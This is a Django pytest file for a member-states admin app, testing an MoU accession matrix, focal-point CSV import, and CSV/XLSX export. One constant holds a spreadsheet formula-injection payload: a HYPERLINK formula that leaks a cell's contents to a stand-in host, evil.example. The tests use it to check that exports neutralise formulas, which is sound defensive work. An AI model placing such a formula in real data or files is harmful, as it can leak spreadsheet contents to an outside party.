import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from memberstates.models import FocalPoint
from tests.factories import FocalPointFactory, MoUAccessionFactory, MoUFactory


@pytest.mark.django_db
def test_accession_matrix_shows_each_state_status_dates_and_adherence(
    client, secretariat, nigeria, turkiye
):
    mou = MoUFactory(short_name="D-8 SME MoU (2015)")
    MoUAccessionFactory(
        mou=mou,
        state=turkiye,
        status="in_force",
        signed_on=datetime.date(2015, 1, 27),
        in_force_on=datetime.date(2015, 9, 1),
    )
    client.force_login(secretariat)
    response = client.get(reverse("admin:memberstates_mou_accession_matrix"))
    cells = {
        state.name: [a and a.status for _, a in row] for state, row in response.context["rows"]
    }
    assert cells == {"Nigeria": [None], "Türkiye": ["in_force"]}
    page = response.content.decode()
    assert "in force 1 Sep 2015" in page
    assert "<strong>1 of 2</strong> states" in page


@pytest.mark.django_db
def test_focal_point_import_with_one_bad_row_imports_nothing(client, secretariat, smedan):
    FocalPointFactory(body=smedan, email="amina@smedan.example.org", full_name="Amina Bello")
    client.force_login(secretariat)
    csv_text = (
        "email,full_name,body,job_title,phone,role,is_active\n"
        "amina@smedan.example.org,Amina Bello-Okafor,SMEDAN,,,alternate,1\n"
        "new@kosgeb.example.org,New Person,NOSUCH,,,alternate,1\n"
    )
    response = client.post(
        reverse("admin:memberstates_focalpoint_import"),
        {
            "format": "0",
            "resource": "0",
            "import_file": SimpleUploadedFile("focal.csv", csv_text.encode(), "text/csv"),
        },
    )
    bad_rows = response.context["result"].invalid_rows
    assert [(row.number, list(row.field_specific_errors)) for row in bad_rows] == [(2, ["body"])]
    assert "No SME governmental body has acronym “NOSUCH”." in response.content.decode()
    assert list(FocalPoint.objects.values_list("full_name", flat=True)) == ["Amina Bello"]


@pytest.mark.django_db
def test_focal_points_export_to_xlsx(client, secretariat, smedan):
    FocalPointFactory(body=smedan)
    client.force_login(secretariat)
    response = client.post(
        reverse("admin:memberstates_focalpoint_export"),
        {"format": "1", "resource": "0", "focalpointresource_email": "on"},
    )
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    assert response.content[:2] == b"PK"


HOSTILE_JOB_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def _export(client, file_format):
    return client.post(
        reverse("admin:memberstates_focalpoint_export"),
        {
            "format": file_format,
            "resource": "0",
            "focalpointresource_email": "on",
            "focalpointresource_job_title": "on",
            "focalpointresource_phone": "on",
        },
    )


@pytest.mark.django_db
def test_focal_points_csv_export_carries_no_formula(client, secretariat, smedan):
    FocalPointFactory(
        body=smedan, email="a@smedan.example.org", job_title=HOSTILE_JOB_TITLE, phone="@SUM(1)"
    )
    client.force_login(secretariat)
    rows = list(csv.reader(io.StringIO(_export(client, "0").content.decode())))
    assert rows[1] == ["a@smedan.example.org", "'" + HOSTILE_JOB_TITLE, "'@SUM(1)"]


@pytest.mark.django_db
def test_focal_points_xlsx_export_carries_no_formula_and_keeps_a_phone_number(
    client, secretariat, smedan
):
    FocalPointFactory(
        body=smedan, email="a@smedan.example.org", job_title=HOSTILE_JOB_TITLE, phone="+90 312 555"
    )
    client.force_login(secretariat)
    sheet = load_workbook(io.BytesIO(_export(client, "1").content)).active
    email, job_title, phone = sheet[2]
    assert (job_title.value, job_title.data_type) == ("'" + HOSTILE_JOB_TITLE, "s")
    assert phone.value == "+90 312 555"


@pytest.mark.django_db
def test_an_exported_focal_point_imports_back_as_typed(client, secretariat, smedan):
    FocalPointFactory(body=smedan, email="a@smedan.example.org", job_title=HOSTILE_JOB_TITLE)
    client.force_login(secretariat)
    exported = client.post(
        reverse("admin:memberstates_focalpoint_export"),
        {"format": "0", "resource": "0"}
        | {f"focalpointresource_{name}": "on" for name in ["email", "full_name", "body"]}
        | {f"focalpointresource_{name}": "on" for name in ["job_title", "role", "is_active"]},
    ).content
    FocalPoint.objects.update(job_title="Changed")
    response = client.post(
        reverse("admin:memberstates_focalpoint_import"),
        {
            "format": "0",
            "resource": "0",
            "import_file": SimpleUploadedFile("focal.csv", exported, "text/csv"),
        },
    )
    client.post(
        reverse("admin:memberstates_focalpoint_process_import"),
        response.context["confirm_form"].initial,
    )
    assert FocalPoint.objects.get().job_title == HOSTILE_JOB_TITLE
